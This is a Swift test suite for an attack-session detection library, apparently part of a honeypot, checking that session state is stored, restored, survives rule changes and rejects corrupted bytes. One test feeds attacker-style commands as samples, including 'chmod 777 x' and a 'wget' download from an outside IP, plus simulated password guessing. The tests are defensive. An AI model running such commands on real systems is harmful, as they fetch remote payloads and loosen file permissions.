import Testing
import ThreatModel

@testable import Detection

@Suite struct SessionEncodingTests {
    private static let words = ["aa", "bb", "cc", "dd"]

    /// Stopping at any point, storing and reading back changes nothing of what is shown afterwards.
    @Test(arguments: 0..<40)
    func storedStateGoesOnAsIfItHadNotBeen(_ seed: UInt64) throws {
        var generator = SplitMix64(seed: seed)
        let condition = RandomCondition.text(&generator, words: Self.words, depth: 0)
        let catalogue = try catalogue(
            words: Self.words, when: "{any: [\(condition), \(RandomCondition.never(Self.words))]}")
        var kept = SessionDetection()
        var stored = SessionDetection()
        for number in 0..<30 {
            let said = Self.words.filter { _ in Int.random(in: 0..<3, using: &generator) == 0 }
            let event =
                number == 29
                ? event(.close, seconds: Double(number * 2))
                : command(said.joined(separator: " ") + " \(number % 4)", seconds: Double(number * 2))
            let bytes = stored.encoded(in: catalogue)
            stored = try #require(SessionDetection(encoded: bytes, in: catalogue))
            #expect(stored.encoded(in: catalogue) == bytes)
            #expect(stored.observe(event, in: catalogue) == kept.observe(event, in: catalogue))
        }
        #expect(stored.shownBehaviours == kept.shownBehaviours)
        #expect(stored.primitiveHits.map(\.events) == kept.primitiveHits.map(\.events))
    }

    @Test func newSessionIsStoredToo() throws {
        let catalogue = try catalogue(words: ["aa"], when: "t.aa")
        let bytes = SessionDetection().encoded(in: catalogue)
        #expect(bytes.count < 10)
        #expect(SessionDetection(encoded: bytes, in: catalogue)?.shownBehaviours == [])
    }

    /// Rules are changed while sessions last: what is known by name is kept, with other indices; the rest is forgotten.
    @Test func changedCatalogueKeepsWhatItKnows() throws {
        let old = try catalogue(words: ["aa", "bb"], when: "{sequence: [t.aa, t.bb]}")
        let new = try DetectionCatalogue(files: [
            ("first.yaml", ruleText(words: ["zz"], when: "t.zz", name: "t.first")),
            ("second.yaml", ruleText(words: ["bb", "aa"], when: "{sequence: [t.aa, t.bb]}")),
        ])
        let different = try catalogue(words: ["aa", "bb"], when: "{sequence: [t.aa, t.bb], within: 5s}")
        let without = try catalogue(words: ["bb"], when: "t.bb")

        var session = SessionDetection()
        #expect(session.observe(command("aa"), in: old) == [])
        let bytes = session.encoded(in: old)

        // By way of the store
        var read = try #require(SessionDetection(encoded: bytes, in: new))
        #expect(read.observe(command("bb"), in: new) == [1])
        // While it lasts
        var carried = session
        #expect(carried.observe(command("bb"), in: new) == [1])
        #expect(carried.primitiveHits.map { new.primitives[$0.primitive].name } == ["t.bb", "t.aa"])
        // Another condition under the same name begins anew.
        var other = session
        #expect(other.observe(command("bb"), in: different) == [])
        // A smaller catalogue has fewer indices.
        var smaller = session
        #expect(smaller.observe(command("bb"), in: without) == [0])
        #expect(smaller.primitiveHits.map(\.primitive) == [0])
    }

    @Test func shownBehaviourIsNotShownAgainAfterAReload() throws {
        let old = try catalogue(words: ["aa"], when: "t.aa")
        let new = try catalogue(words: ["bb", "aa"], when: "{any: [t.aa, t.bb]}")
        var session = SessionDetection()
        #expect(session.observe(command("aa"), in: old) == [0])
        #expect(session.observe(command("bb"), in: new) == [])
        #expect(session.shownBehaviours == [0])
    }

    @Test func everyCutAndEveryFlippedByteIsRefusedOrRead() throws {
        let catalogue = try BuiltIn.catalogue()
        var session = SessionDetection()
        for line in ["enable", "system", "chmod 777 x", "uname -a", "wget http://198.51.100.7/a"] {
            _ = session.observe(command(line), in: catalogue)
        }
        for _ in 0..<5 { _ = session.observe(event(.auth, ["username": "a", "password": "b"]), in: catalogue) }
        let bytes = session.encoded(in: catalogue)
        for length in bytes.indices { #expect(SessionDetection(encoded: bytes[..<length], in: catalogue) == nil) }
        #expect(SessionDetection(encoded: bytes + [0], in: catalogue) == nil)
        for place in bytes.indices {
            for bit in 0..<8 {
                var changed = bytes
                changed[place] ^= 1 << UInt8(bit)
                guard var read = SessionDetection(encoded: changed, in: catalogue) else { continue }
                _ = read.observe(command("./x"), in: catalogue)
                _ = read.observe(event(.close), in: catalogue)
                _ = read.encoded(in: catalogue)
            }
        }
    }

    /// A session that guesses passwords for an hour and tries everything stays small.
    @Test func stateStaysSmall() throws {
        let catalogue = try BuiltIn.catalogue()
        var session = SessionDetection()
        let attacks = catalogue.behaviours.flatMap(\.examples).filter { $0.protocol == .ssh || $0.protocol == .telnet }
        for example in attacks {
            for event in example.sessionEvents().dropLast() { _ = session.observe(event, in: catalogue) }
        }
        for number in 0..<2000 {
            _ = session.observe(
                event(.auth, ["username": "u", "password": "\(number)"], seconds: Double(number) * 40), in: catalogue)
        }
        #expect(session.encoded(in: catalogue).count < 4096)
    }
}
